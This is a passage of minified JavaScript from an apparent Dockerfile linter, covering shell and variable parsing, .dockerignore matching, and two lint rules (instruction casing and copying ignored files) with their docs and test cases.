h==="/"&&!w?(o()==="/"&&i++,d("/"),d("}"),a(g,"/")??""):(r=!0,"")}function u(){i++;let m=n.indexOf("'",i);if(m<0){r=!0;let h=n.slice(i);return i=n.length,h}let g=n.slice(i,m);return i=m+1,g}function p(){i++;let m="";for(;;){let g=o();if(g==="")return r=!0,m;if(g==='"')return i++,m;if(g==="$"){m+=l();continue}if(i++,g===t){let h=o();if(h==="")continue;if(h==='"'||h==="$"||h===t){m+=h,i++;continue}}m+=g}}function d(m){let g="";for(;i<n.length;){let h=n[i];if(m&&h===m)return i++,g;if(h==="$")g+=l();else if(h==="'")g+=u();else if(h==='"')g+=p();else if(i++,h===t){if(i>=n.length)break;g+=n[i++]}else g+=h}return m&&(r=!0),g}return{result:d(""),refs:s,error:r}}function sr(n){let e=[];for(let t of n.refs)t.found||t.modifier&&t.modifier!=="#"&&t.modifier!=="%"&&t.modifier!=="/"||e.includes(t.name)||e.push(t.name);return e}function Zw(n,e){if(n===e)return 0;let t=new Array(e.length+1);for(let s=0;s<=e.length;s++)t[s]=s;for(let s=1;s<=n.length;s++){let i=t[0];t[0]=s;for(let r=1;r<=e.length;r++){let o=t[r];t[r]=Math.min(t[r]+1,t[r-1]+1,i+(n[s-1]===e[r-1]?0:1)),i=o}}return t[e.length]}function ir(n,e,t=!0){let s=t?n:n.toLowerCase(),i,r=3;for(let o of e){let a=t?o:o.toLowerCase();if(a===s)return;let c=Zw(s,a);c<r&&(r=c,i=o)}return i}function os(n){return n.memoize("scope:globals",()=>{let e=new Map;for(let s of n.preamble)if(s.keyword==="ARG")for(let i of Be(n,s).pairs){let r=dt(i.key,n.escape);if(!r)continue;let o=i.value===void 0?void 0:Te(i.value,a=>jp(e,a),n.escape).result;e.set(r,o)}let t=new Set([...Object.keys(qc),...e.keys()]);return{declared:e,names:t}})}function jp(n,e){return n.has(e)?n.get(e)??"":e in qc?qc[e]:void 0}function _t(n){let e=os(n);return t=>jp(e.declared,t)}var Qw=new Set(["alpine","busybox","debian","ubuntu","library/alpine","library/busybox","library/debian","library/ubuntu"]);function ev(n,e){let t=e.from.getImage()??"";return(t.includes("$")?Te(t,_t(n),n.escape).result:t).replace(/[@].*$/,"").replace(/:[^/:]*$/,"").toLowerCase()}function hn(n){return n.memoize("scope:stages",()=>{let e=[];for(let t of n.stages){let s=t.from.getImage()??"",i=s&&!s.includes("$")?n.findStage(s):void 0,r=i&&i.index<t.index?e[i.index]:void 0,o=ev(n,t),a=r?r.windows:/windows|nanoserver|servercore/.test(o)||t.instructions.some(u=>u.keyword==="SHELL"&&/powershell|pwsh|cmd/i.test(u.node.getRawArgumentsContent()??"")),c=r?r.baseKnown:o==="scratch"||Qw.has(o.replace(/^docker\.io\//,""))&&!a,l=new Map;for(let u of t.instructions)if(!(u.keyword!=="ARG"&&u.keyword!=="ENV"))for(let p of Be(n,u).pairs){let d=dt(p.key,n.escape);d&&!l.has(d)&&l.set(d,u.index)}e.push({stage:t,parent:r,defs:l,baseKnown:c,windows:a})}return{byStage:e}})}function tv(n,e,t){for(let s=n;s;s=s.parent){let i=s.defs.get(e);if(i!==void 0&&(s!==n||i<t))return!0;if(n.windows){let r=e.toLowerCase();for(let[o,a]of s.defs)if(o.toLowerCase()===r&&(s!==n||a<t))return!0}}return!n.windows&&e==="PATH"}function _p(n,e){let t=new Set;for(let s=n;s;s=s.parent)for(let[i,r]of s.defs)(s!==n||r<e)&&t.add(i);return n.windows||t.add("PATH"),[...t]}function $p(n,e){return t=>tv(n,t,e)?"":void 0}function rr(n,e){return e&&e.start.line===n.range.start.line?e:n.keywordRange}var Ip=new Set(["ADD","ARG","CMD","COPY","ENTRYPOINT","ENV","EXPOSE","FROM","HEALTHCHECK","LABEL","MAINTAINER","ONBUILD","RUN","SHELL","STOPSIGNAL","USER","VOLUME","WORKDIR"]);function he(n,e){return n.memoize(`from:${e.index}`,()=>{let{flags:t,words:s}=mn(n,e.fromInstruction),i=t.find(a=>a.name.toLowerCase()==="platform")?.value,r=e.from.getArguments(),o=r.length>=3&&r[1].getValue().toLowerCase()==="as"?r[1]:void 0;return{image:s[0],asWord:o?.getValue(),asRange:o?.getRange(),name:s.length>=3&&s[1].toLowerCase()==="as"?s[2]:void 0,platform:i}})}function nv(n){return n.instructions.filter(e=>e.stage&&Ip.has(e.keyword))}var sv={id:"ConsistentInstructionCasing",language:"dockerfile",severity:"warning",compat:{buildkit:"ConsistentInstructionCasing"},docs:{summary:"Instructions should all use the same casing, the one most of the file uses.",why:"Instruction keywords are case-insensitive, but a file mixing `RUN` and `run` (or `Run`) is harder to read and scan; `docker build --check` reports it.",bad:`FROM alpine:3.19
+run apk add --no-cache curl
+COPY . /app
+`,good:`FROM alpine:3.19
+RUN apk add --no-cache curl
+COPY . /app
+`},check({model:n,report:e}){let t=nv(n),s=0,i=0;for(let o of t){let a=o.written;a===a.toLowerCase()?s++:a===a.toUpperCase()&&i++}let r=s>i;for(let o of t){let a=o.written,c=r?a.toLowerCase():a.toUpperCase();c!==a&&e({message:`Command '${a}' should match the case of the command majority (${r?"lowercase":"uppercase"})`,range:o.keywordRange,fixes:[{title:`Write '${c}'`,preferred:!0,edits:[{range:o.keywordRange,newText:c}]}]})}},tests:[{name:"one lowercase among uppercase",input:`FROM scratch
+copy a /a
+COPY b /b
+`,expect:[{line:2,col:1,message:"'copy'"}],fixed:`FROM scratch
+COPY a /a
+COPY b /b
+`},{name:"lowercase majority",input:`FROM scratch
+copy a /a
+copy b /b
+`,expect:[{line:1,message:"(lowercase)"}],fixed:`from scratch
+copy a /a
+copy b /b
+`},{name:"mixed case is always reported",input:`From scratch
+FROM scratch AS b
+`,expect:[{line:1,message:"'From'"}]},{name:"tie goes to uppercase",input:`from scratch
+COPY a /a
+`,expect:[{line:1}]},{name:"consistent",input:`FROM alpine
+RUN <<EOT
+env
+EOT
+COPY a /a
+`,expect:[]},{name:"global ARG is not counted",input:`arg V=1
+FROM alpine
+RUN true
+`,expect:[]}]},Pp=sv;var tt=U(require("node:path"));function iv(n){return/[.+()|^$\\{}]/.test(n)?"\\"+n:n}function qp(n){let e="^";for(let t=0;t<n.length;t++){let s=n[t];if(s==="*")n[t+1]==="*"?(t++,n[t+1]==="/"&&t++,e+=t+1>=n.length?".*":"(.*/)?"):e+="[^/]*";else if(s==="?")e+="[^/]";else if(s==="\\")t++,t<n.length&&(e+="\\"+n[t]);else if(s==="["){let i=n.indexOf("]",t+1);if(i<0)e+="\\[";else{let r=n.slice(t+1,i);(r.startsWith("^")||r.startsWith("!"))&&(r="^"+r.slice(1)),e+="["+r.replace(/\\/g,"\\\\")+"]",t=i}}else e+=iv(s)}return new RegExp(e+"$")}function Up(n){let e=tt.posix.normalize(n),t=e.replace(/\/+$/,"");return t===""&&(t=e.startsWith("/")?"/":"."),t}function rv(n){let e=[];for(let t of n.split(/\r?\n/)){if(t.startsWith("#"))continue;let s=t.trim();if(!s)continue;let i=!1;s.startsWith("!")&&(i=!0,s=s.slice(1).trim()),s&&(s=Up(s),s.length>1&&s.startsWith("/")&&(s=s.slice(1))),e.push({text:s,negated:i,re:qp(s)})}return e}function Uc(n,e){let t=-1,s=e.split("/");for(let i=0;i<n.length;i++){let r=n[i];if(r.negated!==t>=0)continue;let o=r.re.test(e);for(let a=1;!o&&a<s.length;a++)o=r.re.test(s.slice(0,a).join("/"));o&&(t=r.negated?-1:i)}return t}function ov(n,e){if(n.re.test(e))return!0;let t=e==="."?[]:e.split("/"),s=n.text.split("/");if(s.length<=t.length&&!n.text.includes("**"))return!1;for(let i=0;i<t.length&&i<s.length;i++){if(s[i].includes("**"))return!0;if(!qp(s[i]).test(t[i]))return!1}return!0}function av(n,e){let t=e.replace(/^\/+/,"")||".",s=/[*?[]/.test(t),i;if(t==="."){if(i=Uc(n,"x"),i<0||Uc(n,"x/y")<0)return!1}else if(i=Uc(n,t),i<0)return!1;for(let r=i+1;r<n.length;r++){let o=n[r];if(o.negated&&(s||t==="."||ov(o,t)))return!1}return!0}function cv(n,e){if(!e)return;let t=tt.dirname(e),i=n.readFile(tt.join(t,tt.basename(e)+".dockerignore"))??n.readFile(tt.join(t,".dockerignore"));return i===void 0?void 0:rv(i)}var lv={id:"CopyIgnoredFile",language:"dockerfile",severity:"warning",compat:{buildkit:"CopyIgnoredFile"},docs:{summary:"COPY and ADD should not name files that .dockerignore excludes from the build context.",why:'Excluded files are not sent to the builder, so the COPY fails with "not found" (or copies an empty directory) even though the file is right there next to the Dockerfile.',bad:`FROM node:20
+COPY .env /app/.env
+`,good:`FROM node:20
+COPY package.json /app/
+`,files:{".dockerignore":`.env
+node_modules
+`}},check({model:n,report:e,files:t,path:s}){let i=null;for(let r of n.instructions){if(r.keyword!=="COPY"&&r.keyword!=="ADD")continue;let{flags:o,words:a}=mn(n,r);if(o.some(l=>l.name==="from")||a.length<2)continue;if(i===null&&(i=cv(t,s)),!i||i.length===0)return;let c=a.slice(0,-1);if(a[0].startsWith("["))try{let l=JSON.parse(a.join(" "));Array.isArray(l)&&l.every(u=>typeof u=="string")&&(c=l.slice(0,-1))}catch{continue}for(let l of c){if(l.startsWith("<<")||l.includes("$")||/^[a-z][a-z0-9+.-]*:\/\//i.test(l)||l.startsWith("git@"))continue;let u=Up(l.replace(/^["']|["']$/g,""));av(i,u)&&e({message:`Attempting to ${r.keyword==="ADD"?"Add":"Copy"} file "${u}" that is excluded by .dockerignore`,range:r.range})}}},tests:[{name:"COPY and ADD of an ignored file",input:`FROM scratch
+COPY Dockerfile .
+ADD Dockerfile /windy
+`,files:{".dockerignore":`
+Dockerfile
+`},expect:[{line:2,message:'Attempting to Copy file "Dockerfile" that is excluded by .dockerignore'},{line:3,message:"Attempting to Add file"}]},{name:"no .dockerignore",input:`FROM scratch
+COPY Dockerfile .
+`,expect:[]},{name:"a re-included file",input:`FROM scratch
+COPY ./Dockerfile .
+COPY . .
+`,files:{".dockerignore":`**
+!Dockerfile
+`},expect:[]},{name:"dotfiles do not exclude the context root",input:`FROM scratch
+COPY . .
+`,files:{".dockerignore":`.*
+`},expect:[]},{name:"everything excluded",input:`FROM scratch
+COPY . .
+`,files:{".dockerignore":`*
+`},expect:[{line:2,message:'"."'}]},{name:"directories, anchors and negations",input:`FROM scratch
+COPY sub/a.txt /
+COPY /build/out.js /
+COPY docs/x/readme.md /
+COPY keep/b.txt /
+`,files:{".dockerignore":`# comment
+sub
+!sub/b.txt
+/build/
+**/readme.md
+keep
+!keep/b.txt
+`},expect:[{line:2,message:'"sub/a.txt"'},{line:3,message:'"/build/out.js"'},{line:4}]},{name:"negation that re-includes content below the copied directory",input:`FROM scratch
+COPY sub /sub
+COPY sub/*.txt /
+COPY su.b /x
+`,files:{".dockerignore":`sub
+!sub/a.txt
+su.b
+!su\\.b/keep.txt
+`},expect:[]},{name:"negation before the exclusion does not help",input:`FROM scratch
+COPY sub/a.txt /
+`,files:{".dockerignore":`!sub/b.txt
+sub
+`},expect:[{line:2}]},{name:"per-Dockerfile ignore file wins",path:"build.Dockerfile",input:`FROM scratch
+COPY a.txt /
+COPY b.txt /
+`,files:{".dockerignore":`a.txt
+`,"build.Dockerfile.dockerignore":`b.txt
+`},expect:[{line:3}]},{name:"other stages, URLs and variables are not context files",input:`FROM scratch AS base
+COPY Dockerfile /foobar
+FROM base
+COPY --from=base /foobar /x
+ADD https://example.org/foobar /y
+ARG F=foobar
+COPY $F /z
+`,files:{".dockerignore":`foobar
+`},expect:[]}]},Hp=lv;var Bp=U(Ye());var Wc=U(Ye()),Yc={argv:["/bin/sh","-c"],posix:!0,pipefail:!1},uv={argv:["cmd","/S","/C"],posix:!1,pipefail:!1};function Gc(n,e){if(e.keyword==="RUN")return n.memoize(`shell:run:${e.index}`,()=>{if(Vc(n,e).posix)return mv(n,e)})}function F(n){return n.memoize("shell:runs",()=>{let e=[];for(let t of n.instructions){let s=Gc(n,t);s&&e.push(s)}return e})}function Vc(n,e){return gv(n).get(e.index)??Yc}function pv(n,e){let t=$t(n[0]??"").toLowerCase().replace(/\.exe$/,""),s=!(t==="pwsh"||t==="powershell"||t==="cmd");return{argv:n,posix:s,pipefail:s&&Bc(n.slice(1)),source:e}}function $t(n){let e=Math.max(n.lastIndexOf("/"),n.lastIndexOf("\\"));return e>=0?n.slice(e+1):n}function We(n,e,t=[]){return dv(n,e,t)!==void 0}function dv(n,e,t=[]){for(let s of n.args){let i=s.value;if(i==="--")break;if(i.startsWith("--")){let r=i.slice(2).split("=")[0];if(t.includes(r))return s}else if(i.startsWith("-")&&i.length>1){for(let r of i.slice(1))if(e.includes(r))return s}}}function T(n,e=[],t=0){let s=e instanceof Set?e:new Set(e),i=[],r=n.args,o=!1;for(let a=t;a<r.length;a++){let c=r[a].value;if(o){i.push(r[a]);continue}if(c==="--"){o=!0;continue}if(c.startsWith("--")){!c.includes("=")&&s.has(c.slice(2))&&a++;continue}if(c.startsWith("-")&&c.length>1){(s.has(c.slice(1))||/^-[a-zA-Z]+$/.test(c)&&s.has(c[c.length-1]))&&a++;continue}i.push(r[a])}return i}function or(n,e=[]){return T(n,e)[0]}function cs(n,e){return n.memoize(`shell:mounts:${e.index}`,()=>{let t=[],s=e.node.getFlags?.()??[];for(let i of s){if(i.getName().toLowerCase()!=="mount")continue;let r={type:"bind"};for(let o of(i.getValue()??"").split(",")){let a=o.indexOf("="),c=(a<0?o:o.slice(0,a)).trim().toLowerCase(),l=a<0?"":o.slice(a+1).trim().replace(/^["']|["']$/g,"");c==="type"?r.type=l.toLowerCase():(c==="target"||c==="dst"||c==="destination")&&(r.target=l.replace(/\/+$/,"")||"/")}t.push(r)}return t})}function ye(n,e,t){return cs(n,e).some(s=>(s.type==="cache"||s.type==="tmpfs")&&s.target!==void 0&&(t===s.target||t.startsWith(s.target+"/")||s.target==="/"))}function Ge(n,e,t){if(e.form!=="shell"||e.endsWithComment||e.opaque)return;let s=e.ins.node.getArgumentsRange();if(!s)return;let i=n.textOf(s);if(/[;&|]\s*$/.test(i)||/<</.test(i))return;let r=n.escape,o=i.split(/\r?\n/),a;if(o.length===1)a=` && ${t}`;else{let c=o.slice(1).find(l=>/^\s*&&/.test(l));if(c){let l=/^\s*/.exec(c)[0];a=` ${r}
+${l}&& ${t}`}else{let l=o[o.length-1],u=/^\s*/.exec(l)[0]||"    ";a=` && ${r}
+${u}${t}`}}return{range:{start:s.end,end:s.end},newText:a}}function oe(n,e){return{range:{start:n.range.end,end:n.range.end},newText:` ${e}`}}var fv=/(^|[/:_-])(nanoserver|servercore|windowsservercore)([:/@_-]|$)|^mcr\.microsoft\.com\/windows/i;function gv(n){return n.memoize("shell:states",()=>{let e=new Map,t=new Map;for(let s of n.stages){let i=s.from.getImageName()??"",r=n.stages.find(a=>a.index<s.index&&a.name&&a.name.toLowerCase()===i.toLowerCase()),o=r?t.get(r)??Yc:fv.test(s.from.getImage()??"")?uv:Yc;for(let a of s.instructions){if(a.keyword==="SHELL"&&a.node instanceof Wc.JSONInstruction){let c=a.node.getJSONStrings().map(l=>ar(n.textOf(l.getRange()))??l.getJSONValue());c.length&&(o=pv(c,a))}e.set(a.index,o)}t.set(s,o)}return e})}function ar(n){try{let e=JSON.parse(n);return typeof e=="string"?e:void 0}catch{return}}function Bc(n){let e=!1;for(let t of n)if(t==="pipefail"&&e||(e=/^-[a-zA-Z]*o$/.test(t),t.startsWith("-o")&&t.slice(2)==="pipefail"))return!0;return!1}function mv(n,e){let t=e.node,s={ins:e,form:"shell",commands:[],pipes:[],endsWithComment:!1,opaque:!1},i=t.getArgumentsRange();if(!i)return s;let r=n.text,o=n.lines.offsetAt(i.start),a=n.lines.offsetAt(i.end),c=t instanceof Wc.JSONInstruction?t.getJSONStrings():[];if(c.length>0){s.form="exec";let g=c.map(y=>{let w=y.getRange(),k=n.lines.offsetAt(w.start),v=n.lines.offsetAt(w.end);return{value:ar(n.text.slice(k,v))??y.getJSONValue(),start:k,end:v,range:w,quoted:!0,dynamic:!1}}),h=new as(n,{text:"",map:[]},s,!1);return h.emit(g,[],""),h.finish(),s}let l=t,u=typeof l.getHeredocs=="function"?l.getHeredocs():[],p=[];for(let g of u){let h=g.getContentRange(),y=g.getDelimiterRange(),w=h?n.lines.offsetAt(h.start):y?n.lines.offsetAt(y.start):-1,k=y?n.lines.offsetAt(y.end):h?n.lines.offsetAt(h.end):-1;w>=0&&k>=w&&p.push([w,k])}let d=hv(r,o,a,n.escape,p),f=d.text.split(`
+`,1)[0];if(u.length>0&&/^\s*(<<-?\s*(["']?)[A-Za-z0-9_.-]+\2\s*)+$/.test(f)){s.form="heredoc";for(let g of u){let h=g.getContentRange();if(!h)continue;let y=n.lines.offsetAt(h.start),w=n.lines.offsetAt(h.end),k=r.slice(y,w),v=/^#!\s*(\S+)(?:\s+(\S+))?/.exec(k);if(v){let M=$t(v[1])==="env"?v[2]??"":$t(v[1]);if(!/^(sh|bash|ash|dash|zsh|ksh|mksh|busybox)$/.test(M)){s.opaque=!0;continue}}let O=new Array(k.length);for(let M=0;M<k.length;M++)O[M]=y+M;let R=new as(n,{text:k,map:O},s,!1);R.parseAll(),R.finish()}return s}let m=new as(n,d,s,!1);return m.parseAll(),m.finish(),s}function hv(n,e,t,s,i){let r="",o=[],a=e,c=0;for(;a<t;){for(;c<i.length&&i[c][1]<=a;)c++;if(c<i.length&&i[c][0]<=a&&a<i[c][1]){let u=Math.min(i[c][1],t);for(;a<u;a++)r+=n[a],o.push(a);continue}let l=n[a];if(l===s){let u=a+1;for(;u<t&&(n[u]===" "||n[u]==="	");)u++;if(u>=t||n[u]===`
+`||n[u]==="\r"){for(n[u]==="\r"&&u++,n[u]===`
+`&&u++;;){let p=u;for(;p<t&&(n[p]===" "||n[p]==="	");)p++;if(p<t&&(n[p]===`
+`||n[p]==="\r"||n[p]==="#")){if(c<i.length&&i[c][0]<=p)break;for(;p<t&&n[p]!==`
+`;)p++;u=p+1;continue}break}a=u;continue}}if(l==="\r"&&n[a+1]===`
+`){a++;continue}r+=l,o.push(a),a++}return{text:r,map:o}}var yv=new Set(["if","then","else","elif","do","while","until","!","{","time"]),bv=new Set(["fi","done","esac","}"]),wv=new Set(["sh","bash","ash","dash","zsh","ksh","mksh"]),Yp=/^[A-Za-z_][A-Za-z0-9_]*(\[[^\]]*\])?\+?=/,as=class n{constructor(e,t,s,i,r=-1,o=!1){this.model=e;this.src=t;this.run=s;this.nested=i;this.stop=r;this.substitution=o}model;src;run;nested;stop;substitution;pos=0;words=[];redirects=[];before="";heredocs=[];skipUntilSeparator=!1;caseState="none";caseDepth=0;pipefail=!1;depth=0;parseAll(e=!1){let t=this.src.text,s=this.stop>=0?this.stop:t.length;for(;this.pos<s;){let i=t[this.pos];if(i===" "||i==="	"||i==="\r"){this.pos++;continue}if(i===`
+`){this.endCommand(`
+`),this.pos++,this.readHeredocBodies(s);continue}if(i==="\\"&&t[this.pos+1]===`
+`){this.pos+=2;continue}if(i==="#"){for(;this.pos<s&&t[this.pos]!==`
+`;)this.pos++;this.pos>=s&&!this.nested&&(this.run.endsWithComment=!0);continue}if(i===";"){if(t[this.pos+1]===";"){this.pos+=2,this.endCommand(";;"),this.caseDepth>0&&(this.caseState="pattern");continue}this.pos++,this.endCommand(";");continue}if(i==="&"){if(t[this.pos+1]==="&"){this.pos+=2,this.endCommand("&&");continue}if(t[this.pos+1]===">"){this.readRedirect(s);continue}this.pos++,this.endCommand("&");continue}if(i==="|"){if(t[this.pos+1]==="|"){this.pos+=2,this.endCommand("||");continue}let o=t[this.pos+1]==="&"?"|&":"|";if(this.caseState==="pattern"){this.pos++;continue}this.run.pipes.push({offset:this.src.map[this.pos],pipefail:this.pipefail}),this.pos+=o.length,this.endCommand(o);continue}if(i==="("){if(this.words.length===0){this.pos++,this.caseState!=="pattern"&&this.depth++,this.before="(";continue}this.pos++;continue}if(i===")"){if(this.caseState==="pattern"){this.pos++,this.words=[],this.caseState="none";continue}if(this.depth===0&&e){this.endCommand(")");return}this.pos++,this.endCommand(")"),this.depth=Math.max(0,this.depth-1);continue}if(i==="<"||i===">"||/[0-9]/.test(i)&&this.isFdRedirect()){this.readRedirect(s);continue}let r=this.readWord(s);r&&this.addWord(r)}}finish(){this.endCommand(""),this.run.commands.sort((e,t)=>(e.words[0]?.start??0)-(t.words[0]?.start??0))}isFdRedirect(){let e=this.src.text,t=this.pos;for(;t<e.length&&/[0-9]/.test(e[t]);)t++;return e[t]==="<"||e[t]===">"}addWord(e){if(this.caseState==="word"){e.value==="in"&&!e.quoted&&(this.caseState="pattern");return}if(this.caseState==="pattern"){e.value==="esac"&&!e.quoted&&(this.caseDepth--,this.caseState=this.caseDepth>0?"pattern":"none");return}if(this.skipUntilSeparator){e.value==="do"&&!e.quoted&&(this.skipUntilSeparator=!1);return}if(this.words.length===0&&!e.quoted){if(yv.has(e.value))return;if(bv.has(e.value)){e.value==="esac"&&this.caseDepth>0&&(this.caseDepth--,this.caseState=this.caseDepth>0?"pattern":"none");return}if(e.value==="for"||e.value==="select"){this.skipUntilSeparator=!0;return}if(e.value==="case"){this.caseState="word",this.caseDepth++;return}}this.words.push(e)}endCommand(e){if(this.skipUntilSeparator&&(e===";"||e===`
+`)){this.skipUntilSeparator=!1,this.before=e;return}if(this.caseState==="word"&&e===`
+`)return;let t=this.words,s=this.redirects;if(this.words=[],this.redirects=[],t.length===0){e&&e!==`
+`?this.before=e:e===`
+`&&this.before!=="|"&&this.before!=="&&"&&this.before!=="||"&&(this.before=`
+`);return}let i=this.emit(t,s,e);i&&(e==="|"||e==="|&")&&(i.piped=!0),this.before=e}emit(e,t,s){let i=0,r=[];for(;i<e.length-0&&Yp.test(e[i].value)&&!/^['"]/.test(this.rawStart(e[i]));)r.push(e[i++]);if(i>=e.length)return;let o=[],a=e.slice(i);for(;;){let u=kv(a);if(u===void 0||u>=a.length)break;o.push(a[0]),a=a.slice(u)}let c=a[0],l={name:c.dynamic?c.value:$t(c.value),nameWord:c,args:a.slice(1),words:e,assignments:r,wrappers:o,redirects:t,before:this.before,after:s,nested:this.nested,substitution:this.substitution,subshell:this.depth>0,piped:this.before==="|"||this.before==="|&"};return this.run.commands.push(l),l.name==="set"&&Bc(l.args.map(u=>u.value))&&(this.pipefail=!0),wv.has(l.name)&&this.parseShellScriptArg(l),l}rawStart(e){return this.model.text.slice(e.start,e.start+1)}parseShellScriptArg(e){let t=e.args,s=-1;for(let l=0;l<t.length;l++){if(/^-[a-zA-Z]*c[a-zA-Z]*$/.test(t[l].value)){s=l+1;break}if(!t[l].value.startsWith("-")&&!(l>0&&t[l-1].value==="-o"))break}let i=t[s];if(!i)return;let r=this.model.text.slice(i.start,i.end),o;if(r.startsWith("'")&&r.endsWith("'")||r.startsWith('"')&&r.endsWith('"')&&!/[\\$`]/.test(r))o=r.slice(1,-1);else if(this.run.form==="exec"&&r.startsWith('"')&&!r.includes("\\"))o=r.slice(1,-1);else return;if(o!==i.value||o.includes(`
+`))return;let a=new Array(o.length);for(let l=0;l<o.length;l++)a[l]=i.start+1+l;let c=new n(this.model,{text:o,map:a},this.run,!0);c.pipefail=Bc(t.slice(0,s).map(l=>l.value)),c.parseAll(),c.endCommand("")}readRedirect(e){let t=this.src.text;for(;/[0-9]/.test(t[this.pos]);)this.pos++;let i=["<<<","<<-","<<","<>","<&","<",">>",">&",">|",">","&>>","&>"].find(o=>t.startsWith(o,this.pos))??t[this.pos];for(this.pos+=i.length;this.pos<e&&(t[this.pos]===" "||t[this.pos]==="	");)this.pos++;let r;this.pos<e&&!/[\n;&|()<>]/.test(t[this.pos])&&(r=this.readWord(e)),(i==="<<"||i==="<<-")&&r&&this.heredocs.push({delim:r.value.replace(/["'\\]/g,""),strip:i==="<<-"}),this.redirects.push({op:i,target:r})}readHeredocBodies(e){let t=this.src.text;for(;this.heredocs.length;){let s=this.heredocs.shift();for(;this.pos<e;){let i=t.indexOf(`
+`,this.pos);(i<0||i>e)&&(i=e);let r=t.slice(this.pos,i).replace(/\r$/,"");if(s.strip&&(r=r.replace(/^\t+/,"")),this.pos=Math.min(i+1,e),r===s.delim)break}}}makeWord(e,t,s,i,r){let o=this.src.map,a=o[e],c=o[t-1]+1;return{value:s,start:a,end:c,range:this.model.lines.range(a,c),quoted:i,dynamic:r}}readWord(e){let t=this.src.text,s=this.pos,i="",r=!1,o=!1;for(;this.pos<e;){let a=t[this.pos];if(a===" "||a==="	"||a===`
+`||a===";"||a==="&"||a==="|"||a==="<"||a===">"||a==="("||a===")")if(a==="("&&this.pos>s&&t[this.pos-1]==="="){let c=Hc(t,this.pos,e,"(",")");i+=t.slice(this.pos,c+1),this.pos=c+1,o=!0;continue}else break;if(a==="\r"){this.pos++;continue}if(a==="\\"){if(t[this.pos+1]===`
+`){this.pos+=2;continue}this.pos+1<e&&(i+=t[this.pos+1]),this.pos+=2,r=!0;continue}if(a==="'"){let c=t.indexOf("'",this.pos+1);(c<0||c>=e)&&(c=e),i+=t.slice(this.pos+1,c),this.pos=c+1,r=!0;continue}if(a==='"'){for(r=!0,this.pos++;this.pos<e&&t[this.pos]!=='"';){let c=t[this.pos];if(c==="\\"&&this.pos+1<e){let l=t[this.pos+1];if(l===`
+`){this.pos+=2;continue}i+='$`"\\'.includes(l)?l:c+l,this.pos+=2;continue}if(c==="$"||c==="`"){let l=this.pos;if(this.readExpansion(e)){i+=t.slice(l,this.pos),o=!0;continue}}i+=c,this.pos++}this.pos++;continue}if(a==="$"&&t[this.pos+1]==="'"){let c=this.pos+2,l="";for(;c<e&&t[c]!=="'";)if(t[c]==="\\"&&c+1<e){let u=t[c+1];l+=u==="n"?`
+`:u==="t"?"	":u,c+=2}else l+=t[c++];i+=l,this.pos=c+1,r=!0;continue}if(a==="$"||a==="`"){let c=this.pos;if(this.readExpansion(e)){i+=t.slice(c,this.pos),o=!0;continue}}i+=a,this.pos++}if(this.pos===s){this.pos++;return}return this.makeWord(s,Math.min(this.pos,e),i,r,o)}readExpansion(e){let t=this.src.text;if(t[this.pos]==="`"){let r=this.pos+1;for(;r<e&&t[r]!=="`";)r+=t[r]==="\\"?2:1;let o=new n(this.model,this.src,this.run,!0,Math.min(r,e),!0);return o.pos=this.pos+1,o.parseAll(),o.endCommand(""),this.pos=Math.min(r+1,e),!0}let i=t[this.pos+1];if(i==="("&&t[this.pos+2]==="(")return this.pos=Hc(t,this.pos+1,e,"(",")")+1,!0;if(i==="("){let r=new n(this.model,this.src,this.run,!0,e,!0);return r.pos=this.pos+2,r.pipefail=this.pipefail,r.parseAll(!0),r.endCommand(""),this.pos=Math.min(r.pos+1,e),!0}if(i==="{")return this.pos=Hc(t,this.pos+1,e,"{","}")+1,!0;if(i!==void 0&&/[A-Za-z_]/.test(i)){let r=this.pos+2;for(;r<e&&/[A-Za-z0-9_]/.test(t[r]);)r++;return this.pos=r,!0}return i!==void 0&&/[0-9@*#?$!-]/.test(i)?(this.pos+=2,!0):!1}};function Hc(n,e,t,s,i){let r=0;for(let o=e;o<t;o++){let a=n[o];if(a==="\\"){o++;continue}if(a==="'"){let c=n.indexOf("'",o+1);o=c<0?t:c;continue}if(a==='"'){let c=o+1;for(;c<t&&n[c]!=='"';)c+=n[c]==="\\"?2:1;o=c;continue}if(a===s)r++;else if(a===i&&(r--,r===0))return o}return t-1}var vv={sudo:{valueFlags:new Set(["u","g","C","D","h","p","r","t","U","T","user","group","chdir","host","prompt","role","type","other-user","command-timeout","close-from"]),assignments:!0},env:{valueFlags:new Set(["u","C","S","unset","chdir","split-string"]),assignments:!0},nice:{valueFlags:new Set(["n","adjustment"])},nohup:{valueFlags:new Set},exec:{valueFlags:new Set(["a"])},command:{valueFlags:new Set},time:{valueFlags:new Set(["f","o","format","output"])},stdbuf:{valueFlags:new Set(["i","o","e","input","output","error"])},timeout:{valueFlags:new Set(["s","k","signal","kill-after"]),positionalsBefore:1},xargs:{valueFlags:new Set(["a","E","e","I","i","L","l","n","P","s","d","arg-file","delimiter","eof","replace","max-lines","max-args","max-procs","max-chars","process-slot-var"])},gosu:{valueFlags:new Set,positionalsBefore:1},"su-exec":{valueFlags:new Set,positionalsBefore:1},chroot:{valueFlags:new Set(["userspec","groups"]),positionalsBefore:1}};function kv(n){if(n.length<2||n[0].dynamic)return;let e=$t(n[0].value),t=vv[e];if(!t||e==="command"&&/^-[a-zA-Z]*[vV]/.test(n[1].value))return;let s=1,i=t.positionalsBefore??0;for(;s<n.length;){let r=n[s].value;if(r==="--"){s++;break}if(r.startsWith("-")&&r.length>1){let o=r.startsWith("--")?r.slice(2):void 0;o!==void 0?!o.includes("=")&&t.valueFlags.has(o)&&s++:r.length===2&&t.valueFlags.has(r[1])&&s++,s++;continue}if(t.assignments&&Yp.test(r)){s++;continue}if(i>0){i--,s++;continue}break}return s}var zc=new Set(["o","c","t","a","option","config-file","target-release","default-release","host-architecture"]),cr=new Set(["t","virtual","repository","X","p","root","arch","keys-dir","cache-dir","repositories-file","cache-max-age","timeout"]),Jc=new Set(["abi","b","build","e","editable","extra-index-url","f","find-links","i","index-url","implementation","no-binary","only-binary","platform","prefix","progress-bar","proxy","python-version","root","src","t","target","trusted-host","upgrade-strategy","r","requirement","c","constraint","cache-dir","log","timeout","retries","exists-action","cert","client-cert","C","config-settings","global-option","install-option","report","root-user-action","python","use-feature","use-deprecated","keyring-provider","group"]),Le=new Set(["c","config","d","debuglevel","e","errorlevel","installroot","enablerepo","disablerepo","repo","repoid","releasever","setopt","x","exclude","R","randomwait","color","downloaddir","destdir","repofrompath","forcearch","rpmverbosity","comment","advisory","advisories","bz","cve","sec-severity","secseverity"]),ft=new Set(["t","type","r","repo","from","R","root","D","reposd-dir","C","cache-dir","raw-cache-dir","solv-cache-dir","pkg-cache-dir","c","config"]);function 